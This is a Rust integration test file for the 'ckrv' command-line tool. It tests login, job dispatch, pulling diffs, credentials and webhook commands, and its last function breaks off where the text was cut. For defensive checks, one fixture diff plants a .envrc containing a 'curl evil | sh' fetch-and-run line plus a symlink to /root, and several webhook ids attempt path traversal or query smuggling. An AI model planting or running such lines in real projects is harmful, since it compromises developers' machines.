//! The `ckrv` commands as a user runs them, against a real API on loopback.

#![allow(clippy::unwrap_used)]

mod support;

use support::{Env, git, worktree};

const DIFF: &str = "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-Status: draft\n+Status: final\n\
diff --git a/src/new.rs b/src/new.rs\nnew file mode 100644\n--- /dev/null\n+++ b/src/new.rs\n@@ -0,0 +1 @@\n+pub fn new() {}\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_run_status_logs_and_pull_work_as_the_quickstart_says() {
    let env = Env::start().await;
    let work = worktree(env.home.path());

    let login = env.login("dev@example.com").await;
    assert!(login.contains("▌ ✔ Device Code Generated"), "{login}");
    assert!(
        login.contains(&format!("Visit: {}/activate", env.api_url)),
        "{login}"
    );
    assert!(
        login.contains("▌ ✔ Authenticated as dev@example.com"),
        "{login}"
    );
    assert!(
        login.contains("Subscription: Free (100 jobs remaining this month)"),
        "{login}"
    );
    let whoami = env.ok(&work, &["cloud", "whoami"]).await;
    assert!(whoami.contains("Logged in as dev@example.com"), "{whoami}");

    // --repo and --base-branch default to origin and the current branch.
    let out = env
        .ok(&work, &["run", "--cloud", "--spec", "specs/spec.md"])
        .await;
    assert!(out.contains("▌ ✔ Job Dispatched"), "{out}");
    let id = out
        .lines()
        .find_map(|l| l.strip_prefix("▌ Job ID: "))
        .unwrap()
        .to_string();
    let short = &id[..8];
    assert!(
        out.contains(&format!("ckrv logs {short} --follow")),
        "{out}"
    );

    let status: serde_json::Value =
        serde_json::from_str(&env.ok(&work, &["status", short, "--json"]).await).unwrap();
    assert_eq!(status["id"], id.as_str());
    assert_eq!(status["git_repo_url"], "https://git.example.com/work.git");
    assert_eq!(status["git_base_branch"], "main");
    assert_eq!(status["spec_path"], "specs/spec.md");
    // Claimed for a worker as it was dispatched.
    assert_eq!(status["status"], "running");

    // Nothing to pull yet, and nothing in the log.
    let err = env.fails(&work, &["pull", short]).await;
    assert!(err.contains(&format!("job {short} is running")), "{err}");
    assert_eq!(env.ok(&work, &["logs", short]).await, "");

    env.finish_with_diff(&id, DIFF).await;
    let status = env.ok(&work, &["status", short]).await;
    assert!(status.contains("▌ Status: succeeded"), "{status}");
    assert!(status.contains(&format!("ckrv pull {short}")), "{status}");
    let logs = env.ok(&work, &["logs", short, "--follow"]).await;
    assert_eq!(logs, "[12:34:56] script: agent says hi\n");
    let json_logs = env.ok(&work, &["logs", short, "--json"]).await;
    let entry: serde_json::Value = serde_json::from_str(json_logs.trim()).unwrap();
    assert_eq!(entry["sequence"], 1);

    let pulled = env.ok(&work.join("specs"), &["pull", short]).await;
    let stat = |file: &str, graph: &str| {
        pulled
            .lines()
            .any(|l| l.starts_with(&format!("▌   {file} ")) && l.ends_with(&format!("| {graph}")))
    };
    assert!(stat("README.md", "2 +-"), "{pulled}");
    assert!(pulled.contains("Review with: git diff HEAD"), "{pulled}");
    assert_eq!(
        std::fs::read_to_string(work.join("README.md")).unwrap(),
        "Status: final\n"
    );

    // Pulling again does not apply twice: it refuses, naming the files, and changes nothing.
    let err = env.fails(&work, &["pull", short]).await;
    assert!(
        err.contains("conflicts with your worktree in:\n  README.md")
            && err.contains("nothing was changed"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(work.join("README.md")).unwrap(),
        "Status: final\n"
    );

    let err = env.fails(&work, &["status", "ffffffff"]).await;
    assert!(err.contains("job not found: ffffffff"), "{err}");

    let out = env.ok(&work, &["cloud", "logout"]).await;
    assert!(out.contains("Logged out"), "{out}");
    let err = env.fails(&work, &["status", short]).await;
    assert!(err.contains("run `ckrv cloud login`"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ci_logs_in_with_a_personal_access_token_from_stdin() {
    let env = Env::start().await;
    env.add_user("ci@example.com").await;
    let store = env.store().await;
    let (id, token) = ckrv_api::identity::admin::issue_token(&store, "ci@example.com", "ci", None)
        .await
        .unwrap();

    // A wrong token is refused and nothing is stored.
    let out = env
        .run_with_stdin(
            env.home.path(),
            &["cloud", "login", "--with-token"],
            "ckrv_pat_wrong\n",
        )
        .await;
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not accepted"));
    assert!(!env.config_dir().join("credentials.json").exists());
    let out = env
        .run_with_stdin(env.home.path(), &["cloud", "login", "--with-token"], "")
        .await;
    assert!(String::from_utf8_lossy(&out.stderr).contains("no token on standard input"));

    let out = env
        .run_with_stdin(
            env.home.path(),
            &["cloud", "login", "--with-token"],
            &format!("{token}\n"),
        )
        .await;
    let printed = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{printed}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        printed.contains("Authenticated as ci@example.com (personal access token)"),
        "{printed}"
    );
    assert!(!printed.contains(&token));
    let whoami = env.ok(env.home.path(), &["cloud", "whoami"]).await;
    assert!(whoami.contains("ci@example.com"), "{whoami}");

    // Revoked, it stops working, and the CLI says how to get in again.
    ckrv_api::identity::admin::revoke_token(&store, "ci@example.com", &id)
        .await
        .unwrap();
    let err = env.fails(env.home.path(), &["cloud", "whoami"]).await;
    assert!(err.contains("ckrv cloud login"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denied_login_says_so_and_stores_nothing() {
    let env = Env::start().await;
    let (out, printed) = env.login_decided("dev@example.com", "deny").await;
    assert_eq!(out.status.code(), Some(1), "{printed}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("the login was denied"), "{err}");
    assert!(!env.config_dir().join("credentials.json").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_access_token_is_refreshed_once_and_stored() {
    let env = Env::start().await;
    env.login("dev@example.com").await;
    let path = env.config_dir().join("credentials.json");
    let mut session: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    session["access_token"] = "ckrv_at_revoked".into();
    std::fs::write(&path, session.to_string()).unwrap();

    let whoami = env
        .ok(env.home.path(), &["cloud", "whoami", "--json"])
        .await;
    assert!(whoami.contains("dev@example.com"));
    let renewed: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_ne!(renewed["access_token"], "ckrv_at_revoked");
    assert_ne!(renewed["refresh_token"], session["refresh_token"]);

    // With both tokens dead, the user is told to log in again.
    let mut dead = renewed.clone();
    dead["access_token"] = "ckrv_at_x".into();
    dead["refresh_token"] = "ckrv_rt_x".into();
    std::fs::write(&path, dead.to_string()).unwrap();
    let err = env.fails(env.home.path(), &["cloud", "whoami"]).await;
    assert!(
        err.contains("session has expired or was revoked: run `ckrv cloud login`"),
        "{err}"
    );
    assert!(
        !err.contains("ckrv_rt_x") && !err.contains("ckrv_at_x"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_input_gets_clear_errors_and_exit_status_1() {
    let env = Env::start().await;
    let work = worktree(env.home.path());
    // No session: refused before anything is sent.
    let err = env
        .fails(&work, &["run", "--cloud", "--spec", "specs/spec.md"])
        .await;
    assert!(
        err.contains("not authenticated: run `ckrv cloud login`"),
        "{err}"
    );

    env.login("dev@example.com").await;
    let cases: &[(&[&str], &str)] = &[
        (
            &[
                "run",
                "--cloud",
                "--provider",
                "acme",
                "--spec",
                "specs/spec.md",
            ],
            "unknown provider 'acme': installed are chakravarti; add one with `ckrv plugin install PATH`",
        ),
        (
            &["run", "--cloud", "--spec", "specs/missing.md"],
            "cannot read the spec specs/missing.md",
        ),
        (
            &[
                "run",
                "--cloud",
                "--spec",
                "specs/spec.md",
                "--base-branch",
                "a..b",
            ],
            "not a valid branch name",
        ),
        (
            &[
                "run",
                "--cloud",
                "--spec",
                "specs/spec.md",
                "--credential",
                "github-work",
            ],
            "Credential not found: 'github-work'; see your credentials with `ckrv cloud credentials list`",
        ),
        (&["status", "abc"], "at least 4 characters"),
        (
            &[
                "run",
                "--cloud",
                "--spec",
                "specs/spec.md",
                "--repo",
                "https://dev:ghp_secret@git.example.com/work.git",
            ],
            "carries credentials, which are never sent",
        ),
    ];
    for (args, message) in cases {
        let err = env.fails(&work, args).await;
        assert!(err.contains(message), "{args:?}: {err}");
        assert!(err.starts_with("error: "), "{err}");
    }
    std::fs::write(work.join("specs/empty.md"), "\n").unwrap();
    let err = env
        .fails(&work, &["run", "--cloud", "--spec", "specs/empty.md"])
        .await;
    assert!(err.contains("is empty"), "{err}");

    // Outside a worktree, defaults cannot be found and pull has nowhere to apply.
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("spec.md"), "# x\n").unwrap();
    let err = env
        .fails(outside.path(), &["run", "--cloud", "--spec", "spec.md"])
        .await;
    assert!(err.contains("no --repo given"), "{err}");
    let err = env.fails(outside.path(), &["pull", "abcd1234"]).await;
    assert!(err.contains("not inside a git worktree"), "{err}");

    // None of the refused runs created a job.
    let whoami: serde_json::Value =
        serde_json::from_str(&env.ok(&work, &["cloud", "whoami", "--json"]).await).unwrap();
    assert_eq!(whoami["job_quota_remaining"], 100);
    assert_eq!(
        git(&work, &["status", "--porcelain", "--", "README.md"]),
        ""
    );
}

#[test]
fn every_command_has_help() {
    for args in [
        vec!["--help"],
        vec!["run", "--help"],
        vec!["status", "--help"],
        vec!["logs", "--help"],
        vec!["pull", "--help"],
        vec!["cloud", "--help"],
        vec!["cloud", "login", "--help"],
        vec!["cloud", "logout", "--help"],
        vec!["cloud", "whoami", "--help"],
        vec!["cloud", "credentials", "--help"],
        vec!["cloud", "credentials", "add", "--help"],
        vec!["cloud", "credentials", "list", "--help"],
        vec!["cloud", "credentials", "remove", "--help"],
        vec!["cloud", "webhooks", "--help"],
        vec!["cloud", "webhooks", "add", "--help"],
        vec!["cloud", "webhooks", "list", "--help"],
        vec!["cloud", "webhooks", "rm", "--help"],
        vec!["cloud", "webhooks", "rotate", "--help"],
        vec!["cloud", "webhooks", "deliveries", "--help"],
        vec!["cloud", "webhooks", "redeliver", "--help"],
    ] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_ckrv"))
            .args(&args)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}");
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("Usage: ckrv"), "{args:?}: {text}");
    }
    let top = std::process::Command::new(env!("CARGO_BIN_EXE_ckrv"))
        .arg("--help")
        .output()
        .unwrap();
    let top = String::from_utf8(top.stdout).unwrap();
    for command in ["run", "status", "logs", "pull", "cloud"] {
        assert!(top.contains(&format!("  {command} ")), "{command}: {top}");
    }
    let usage = std::process::Command::new(env!("CARGO_BIN_EXE_ckrv"))
        .arg("frobnicate")
        .output()
        .unwrap();
    assert_eq!(usage.status.code(), Some(2));
}

/// `ckrv` with a token but an API where nothing listens: a command that sent anything would
/// say it cannot reach it.
fn ckrv_without_api(home: &std::path::Path, args: &[&str]) -> std::process::Output {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    std::process::Command::new(env!("CARGO_BIN_EXE_ckrv"))
        .current_dir(home)
        .args(args)
        .env("CKRV_API_URL", format!("http://127.0.0.1:{port}"))
        .env("CKRV_CONFIG_DIR", home.join("config"))
        .env("CKRV_CACHE_DIR", home.join("cache"))
        .env("CKRV_TOKEN", "ckrv_at_unused")
        .env("DBUS_SESSION_BUS_ADDRESS", support::NO_BUS)
        .env_remove("RUST_LOG")
        .output()
        .unwrap()
}

#[test]
fn webhook_commands_refuse_bad_input_before_any_call() {
    let home = tempfile::tempdir().unwrap();
    // Usage errors (status 2): a bad event is named, with the valid ones.
    let usage: &[(&[&str], &[&str])] = &[
        (
            &[
                "cloud",
                "webhooks",
                "add",
                "https://hooks.example.com/ckrv",
                "--events",
                "job.succeeded,job.done",
            ],
            &["job.done", "job.succeeded", "job.published", "*"],
        ),
        (
            &[
                "cloud",
                "webhooks",
                "add",
                "https://hooks.example.com/ckrv",
                "--events",
                "",
            ],
            &["--events", "job.failed"],
        ),
        (&["cloud", "webhooks", "add"], &["<URL>"]),
        (
            &["cloud", "webhooks", "deliveries", "--limit", "0"],
            &["--limit", "1..=100"],
        ),
        (
            &["cloud", "webhooks", "deliveries", "--limit", "101"],
            &["--limit", "1..=100"],
        ),
        (&["cloud", "webhooks", "rm"], &["<ID>"]),
        (&["cloud", "webhooks", "rotate"], &["<ID>"]),
        (&["cloud", "webhooks", "redeliver"], &["<ID>"]),
    ];
    for (args, words) in usage {
        let out = ckrv_without_api(home.path(), args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        for word in *words {
            assert!(err.contains(word), "{args:?}: {word}: {err}");
        }
        assert!(!err.contains("cannot reach"), "{args:?}: {err}");
    }

    // Ids that could leave their path segment or query value are refused by the plugin before
    // it sends anything (status 1, as the API's own refusals).
    let ids: &[&[&str]] = &[
        &["cloud", "webhooks", "rm", "../../jobs/x"],
        &["cloud", "webhooks", "rm", ".."],
        &["cloud", "webhooks", "rotate", "wh_1/rotate?x"],
        &["cloud", "webhooks", "redeliver", "msg_1%2F"],
        &[
            "cloud",
            "webhooks",
            "deliveries",
            "--webhook",
            "wh_1&limit=1000",
        ],
    ];
    for args in ids {
        let out = ckrv_without_api(home.path(), args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(err.starts_with("error: "), "{args:?}: {err}");
        assert!(err.contains("is not a valid id"), "{args:?}: {err}");
        assert!(!err.contains("cannot reach"), "{args:?}: {err}");
    }

    // A good command does go out (and says where it could not reach).
    let out = ckrv_without_api(home.path(), &["cloud", "webhooks", "list"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot reach"));
}

/// A change that plants a link and a direnv file besides an ordinary edit.
const RISKY_DIFF: &str = "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-Status: draft\n+Status: final\n\
diff --git a/.envrc b/.envrc\nnew file mode 100644\n--- /dev/null\n+++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil | sh\n\
diff --git a/home b/home\nnew file mode 120000\n--- /dev/null\n+++ b/home\n@@ -0,0 +1 @@\n+/root\n\\ No newline at end of file\n";

async fn dispatched(env: &Env, work: &std::path::Path) -> String {
    let out = env
        .ok(
            work,
            &["run", "--cloud", "--spec", "specs/spec.md", "--json"],
        )
        .await;
    let job: serde_json::Value = serde_json::from_str(&out).unwrap();
    job["id"].as_str().unwrap().to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pull_refuses_links_and_dotfiles_without_a_yes_and_applies_them_with_one() {
    let env = Env::start().await;
    let work = worktree(env.home.path());
    env.login("dev@example.com").await;
    let id = dispatched(&env, &work).await;
    env.finish_with_diff(&id, RISKY_DIFF).await;

    // No terminal to ask on: refused, with what and why, and nothing changes.
    let err = env.fails(&work, &["pull", &id[..8]]).await;
    assert!(err.contains(".envrc: direnv runs it"), "{err}");
    assert!(err.contains("home: a symbolic link"), "{err}");
    assert!(
        err.contains(&format!("ckrv pull {} --yes", &id[..8])),
        "{err}"
    );
    assert!(!work.join(".envrc").exists());
    assert_eq!(
        git(&work, &["status", "--porcelain", "--", "README.md"]),
        ""
    );
    let err = env.fails(&work, &["pull", &id[..8], "--json"]).await;
    assert!(err.contains("nothing was changed"), "{err}");

    let out = env.ok(&work, &["pull", &id[..8], "--yes", "--json"]).await;
    let pulled: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(pulled["applied"], true);
    assert_eq!(pulled["sha256"], pulled["job"]["diff_sha256"]);
    assert_eq!(pulled["risks"].as_array().unwrap().len(), 2, "{pulled}");
    assert!(work.join(".envrc").exists());
    assert!(
        std::fs::symlink_metadata(work.join("home"))
            .unwrap()
            .is_symlink()
    );
}

/// A change that renames the README into an executable, and a link into a new place aimed
/// elsewhere: nothing in it says "create mode".
const RENAMING_DIFF: &str = "diff --git a/README.md b/run.sh\nold mode 100644\nnew mode 100755\n\
similarity index 100%\nrename from README.md\nrename to run.sh\n\
diff --git a/docs-link b/home\nsimilarity index 0%\nrename from docs-link\nrename to home\n\
--- a/docs-link\n+++ b/home\n@@ -1 +1 @@\n-docs\n\\ No newline at end of file\n+/root\n\
\\ No newline at end of file\n";

/// The same by copies: the README copied into an executable, the link copied and aimed
/// elsewhere.
const COPYING_DIFF: &str = "diff --git a/README.md b/run.sh\nold mode 100644\nnew mode 100755\n\
similarity index 100%\ncopy from README.md\ncopy to run.sh\n\
diff --git a/docs-link b/home\nsimilarity index 0%\ncopy from docs-link\ncopy to home\n\
--- a/docs-link\n+++ b/home\n@@ -1 +1 @@\n-docs\n\\ No newline at end of file\n+/root\n\
\\ No newline at end of file\n";

/// A rename and nothing more.
const RENAME_DIFF: &str = "diff --git a/README.md b/NOTES.md\nsimilarity index 100%\n\
rename from README.md\nrename to NOTES.md\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pull_judges_the_tree_a_change_leaves_so_a_renamed_or_copied_link_or_executable_is_asked_about()
 {
    let env = Env::start().await;
    let work = worktree(env.home.path());
    std::os::unix::fs::symlink("docs", work.join("docs-link")).unwrap();
    git(&work, &["add", "docs-link"]);
    git(&work, &["commit", "-q", "-m", "a link"]);
    env.login("dev@example.com").await;

    for (how, diff) in [("renamed", RENAMING_DIFF), ("copied", COPYING_DIFF)] {
        let id = dispatched(&env, &work).await;
        env.finish_with_diff(&id, diff).await;
        // No terminal to ask on: refused, naming each and why, and nothing changes.
        let err = env.fails(&work, &["pull", &id[..8]]).await;
        assert!(err.contains("run.sh: an executable file"), "{how}: {err}");
        assert!(
            err.contains("home: a symbolic link to /root"),
            "{how}: {err}"
        );
        assert!(
            err.contains(&format!("ckrv pull {} --yes", &id[..8])),
            "{how}: {err}"
        );
        assert!(!work.join("run.sh").exists() && !work.join("home").exists());
        assert_eq!(
            git(&work, &["status", "--porcelain", "--untracked-files=no"]),
            ""
        );
    }

    // An ordinary rename is only a rename: it applies without a question.
    let id = dispatched(&env, &work).await;
    env.finish_with_diff(&id, RENAME_DIFF).await;
    env.ok(&work, &["pull", &id[..8]]).await;
    assert_eq!(
        std::fs::read_to_string(work.join("NOTES.md")).unwrap(),
        "Status: draft\n"
    );
    assert!(!work.join("README.md").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pull_refuses_a_diff_changed_after_its_worker_uploaded_it() {
    let env = Env::start().await;
    let work = worktree(env.home.path());
    env.login("dev@example.com").await;
    let id = dispatched(&env, &work).await;
    env.finish_with_diff(&id, DIFF).await;
    let status: serde_json::Value =
        serde_json::from_str(&env.ok(&work, &["status", &id[..8], "--json"]).await).unwrap();
    assert_eq!(status["diff_sha256"].as_str().unwrap().len(), 64);

    // Someone with the artifact store swaps the diff for their own.
    let stored = env
        .home
        .path()
        .join(format!("api/artifacts/jobs/{id}/diff.patch"));
    let planted = DIFF.replace("+Status: final", "+Status: owned");
    std::fs::write(&stored, planted).unwrap();
    let err = env.fails(&work, &["pull", &id[..8]]).await;
    assert!(err.contains("is not the one its worker uploaded"), "{err}");
    assert_eq!(
        std::fs::read_to_string(work.join("README.md")).unwrap(),
        "Status: draft\n"
    );
}

/// A proxy in front of the API that loses the answer to the first `POST /v1/jobs` (the job is
/// made, the client hears 503); it records what it forwarded.
async fn lossy_proxy(api: String) -> ckrv_test_support::FakeEndpoint {
    use axum::http::{Method, StatusCode};
    use axum::response::IntoResponse;
    let client = reqwest::Client::new();
    let creates = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    ckrv_test_support::FakeEndpoint::start(move |request: ckrv_test_support::Recorded| {
        let (client, api, creates) = (client.clone(), api.clone(), creates.clone());
        async move {
            let mut forward =
                client.request(request.method.clone(), format!("{api}{}", request.uri));
            for name in ["authorization", "content-type", "accept", "idempotency-key"] {
                if let Some(value) = request.headers.get(name) {
                    forward = forward.header(name, value.as_bytes());
                }
            }
            let response = forward.body(request.body.clone()).send().await.unwrap();
            let creating = request.method == Method::POST && request.path() == "/v1/jobs";
            if creating && creates.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 0 {
                let lost = r#"{"error":"unavailable","error_description":"connection lost"}"#;
                return (StatusCode::SERVICE_UNAVAILABLE, lost.to_string()).into_response();
            }
            let status = StatusCode::from_u16(response.status().as_u16()).unwrap();
            (status, response.text().await.unwrap()).into_response()
        }
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dispatch_whose_answer_was_lost_is_retried_into_the_same_job() {
    let mut env = Env::start().await;
    let work = worktree(env.home.path());
    env.add_user("dev@example.com").await;
    let store = env.store().await;
    let (_, token) = ckrv_api::identity::admin::issue_token(&store, "dev@example.com", "ci", None)
        .await
        .unwrap();
    // The CLI reaches the API through the proxy.
    let proxy = lossy_proxy(env.api_url.clone()).await;
    env.api_url = proxy.url.clone();
    let out = env
        .run_with_stdin(
            &work,
            &["cloud", "login", "--with-token"],
            &format!("{token}\n"),
        )
        .await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::write(
        work.join("specs/spec.md"),
        "---\nagent: script\nrun: echo hi\n---\n# Hi\n",
    )
    .unwrap();

    let id = dispatched(&env, &work).await;
    let keys: Vec<String> = proxy
        .requests()
        .iter()
        .filter(|r| r.method == axum::http::Method::POST && r.path() == "/v1/jobs")
        .map(|r| r.header("idempotency-key").to_owned())
        .collect();
    assert_eq!(keys.len(), 2, "one lost answer, one retry: {keys:?}");
    assert!(
        !keys[0].is_empty() && keys[0] == keys[1],
        "one key per dispatch: {keys:?}"
    );
    let list: serde_json::Value =
        serde_json::from_str(&env.ok(&work, &["status", &id, "--json"]).await).unwrap();
    assert_eq!(list["id"], id.as_str());
    let store = env.store().await;
    let account = store
        .account_by_email("dev@example.com")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        store.jobs_created_since(&account.id, 0).await.unwrap(),
        1,
        "the retry made no second job"
    );

    // The next dispatch is a new job, under a new key.
    let second = dispatched(&env, &work).await;
    assert_ne!(second, id);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_are_added_from_stdin_or_a_file_listed_replaced_and_removed() {
    const TOKEN: &str = "ghp_cliCredentialToken0123456789abcd";
    let env = Env::start().await;
    let home = env.home.path();
    env.login("dev@example.com").await;
    let add = [
        "cloud",
        "credentials",
        "add",
        "--name",
        "github-work",
        "--host",
        "github",
    ];

    let out = env.run_with_stdin(home, &add, &format!("{TOKEN}\n")).await;
    let printed = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(printed.trim(), "▌ ✔ Credential 'github-work' saved");

    // Once is enough: the same name again says how to replace it, and --force does.
    let out = env.run_with_stdin(home, &add, TOKEN).await;
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("ckrv cloud credentials add --name github-work --force"),
        "{err}"
    );
    let mut forced = add.to_vec();
    forced.push("--force");
    let out = env
        .run_with_stdin(home, &forced, "ghp_replacedToken0123456789")
        .await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // A deploy key from its file; nothing on standard input is an error saying what to give.
    let key = home.join("deploy_key");
    std::fs::write(
        &key,
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----\n",
    )
    .unwrap();
    let key = key.to_str().unwrap();
    env.ok(
        home,
        &[
            "cloud",
            "credentials",
            "add",
            "--name",
            "deploy",
            "--host",
            "gitlab",
            "--type",
            "deploy-key",
            "--from-file",
            key,
        ],
    )
    .await;
    let out = env
        .run_with_stdin(
            home,
            &[
                "cloud",
                "credentials",
                "add",
                "--name",
                "empty",
                "--host",
                "generic",
            ],
            "",
        )
        .await;
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no access token given"));

    let list = env.ok(home, &["cloud", "credentials", "list"]).await;
    let rows: Vec<&str> = list.lines().collect();
    assert_eq!(rows.len(), 3, "{list}");
    assert!(
        rows[0].starts_with("NAME") && rows[0].contains("LAST USED"),
        "{list}"
    );
    assert!(
        rows[1].starts_with("deploy ")
            && rows[1].contains("gitlab")
            && rows[1].contains("deploy-key"),
        "{list}"
    );
    assert!(
        rows[2].starts_with("github-work ")
            && rows[2].contains("pat")
            && rows[2].ends_with("never"),
        "{list}"
    );
    assert!(!list.contains("ghp_"), "{list}");
    let json = env
        .ok(home, &["cloud", "credentials", "list", "--json"])
        .await;
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json[1]["name"], "github-work");
    assert!(!json.to_string().contains("ghp_"));

    // A job names one; an unknown name is refused with the seed's words.
    let work = worktree(home);
    let err = env
        .fails(
            &work,
            &[
                "run",
                "--cloud",
                "--spec",
                "specs/spec.md",
                "--credential",
                "nope",
            ],
        )
        .await;
    assert!(err.contains("Credential not found: 'nope'"), "{err}");
    let out = env
        .ok(
            &work,
            &[
                "run",
                "--cloud",
                "--spec",
                "specs/spec.md",
                "--credential",
                "github-work",
                "--json",
            ],
        )
        .await;
    let job: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert!(job["id"].is_string());

    let out = env
        .ok(home, &["cloud", "credentials", "remove", "github-work"])
        .await;
    assert_eq!(out.trim(), "▌ ✔ Credential 'github-work' removed");
    let err = env
        .fails(home, &["cloud", "credentials", "remove", "github-work"])
        .await;
    assert!(err.contains("Credential not found: 'github-work'"), "{err}");
}

/// A stand-in browser: a program that records each URL it is asked to open in `record`.
fn stand_in_browser(dir: &std::path::Path, record: &std::path::Path) -> String {
    use std::os::unix::fs::PermissionsExt as _;
    let program = dir.join("browser.sh");
    std::fs::write(
        &program,
        format!(
            "#!/bin/sh\nprintf '%s\\n' \"$1\" >> '{}'\n",
            record.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    program.to_str().unwrap().to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_opens_the_activation_page_at_a_desktop_and_never_over_ssh() {
    let env = Env::start().await;
    let home = env.home.path();
    let opened = home.join("opened");
    let browser = stand_in_browser(home, &opened);
    let desktop = [("DISPLAY", ":99"), ("BROWSER", browser.as_str())];

    let (out, printed) = env
        .login_with("desk@example.com", "approve", &[], &desktop)
        .await;
    assert!(out.status.success(), "{printed}");
    let code = printed
        .lines()
        .find_map(|l| l.split_once("Enter code: "))
        .map(|(_, code)| code.trim().to_string())
        .unwrap();
    // The page opens with the code filled in; the URL and code are printed all the same.
    let mut recorded = String::new();
    for _ in 0..100 {
        recorded = std::fs::read_to_string(&opened).unwrap_or_default();
        if !recorded.is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(
        recorded.trim(),
        format!("{}/activate?user_code={code}", env.api_url),
        "{printed}"
    );
    assert!(printed.contains("Opened your browser"), "{printed}");
    assert!(printed.contains(&format!("Visit: {}/activate", env.api_url)));
    std::fs::remove_file(&opened).unwrap();

    // Over SSH, with --no-browser, or on Linux without a display: the printed URL only.
    let ssh = [
        ("DISPLAY", ":99"),
        ("BROWSER", browser.as_str()),
        ("SSH_CONNECTION", "127.0.0.1 50022 127.0.0.1 22"),
    ];
    let headless = [("BROWSER", browser.as_str())];
    for (email, args, vars) in [
        ("ssh@example.com", &[][..], &ssh[..]),
        ("flag@example.com", &["--no-browser"][..], &desktop[..]),
        ("headless@example.com", &[][..], &headless[..]),
    ] {
        let (out, printed) = env.login_with(email, "approve", args, vars).await;
        assert!(out.status.success(), "{email}: {printed}");
        assert!(printed.contains("Enter code: "), "{email}: {printed}");
        assert!(
            !printed.contains("Opened your browser"),
            "{email}: {printed}"
        );
        assert!(!opened.exists(), "{email}: a browser was opened");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logout_forgets_a_personal_access_token_here_and_revokes_it_only_when_asked() {
    let env = Env::start().await;
    let home = env.home.path();
    env.add_user("ci@example.com").await;
    let store = env.store().await;
    let (_, token) = ckrv_api::identity::admin::issue_token(&store, "ci@example.com", "ci", None)
        .await
        .unwrap();
    let login = ["cloud", "login", "--with-token"];
    let token_line = format!("{token}\n");
    let out = env.run_with_stdin(home, &login, &token_line).await;
    assert!(out.status.success());

    // Logging out forgets it here; another machine (a plain request here) still uses it.
    let out = env.ok(home, &["cloud", "logout"]).await;
    assert!(out.contains("Logged out on this machine"), "{out}");
    assert!(out.contains("--revoke"), "{out}");
    let err = env.fails(home, &["cloud", "whoami"]).await;
    assert!(err.contains("ckrv cloud login"), "{err}");
    let (status, me) = env.api.get("/v1/users/me", &token).await;
    assert_eq!(status, reqwest::StatusCode::OK, "{me}");

    // With --revoke it stops working everywhere.
    let out = env.run_with_stdin(home, &login, &token_line).await;
    assert!(out.status.success());
    let out = env.ok(home, &["cloud", "logout", "--revoke"]).await;
    assert!(
        out.contains("the personal access token is revoked"),
        "{out}"
    );
    let (status, _) = env.api.get("/v1/users/me", &token).await;
    assert_eq!(status, reqwest::StatusCode::UNAUTHORIZED);

    // A device-flow session ends at the service as before.
    env.login("dev@example.com").await;
    let out = env.ok(home, &["cloud", "logout"]).await;
    assert_eq!(out.trim(), "▌ ✔ Logged out");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_quickstarts_credentials_add_with_provider_names_the_git_host() {
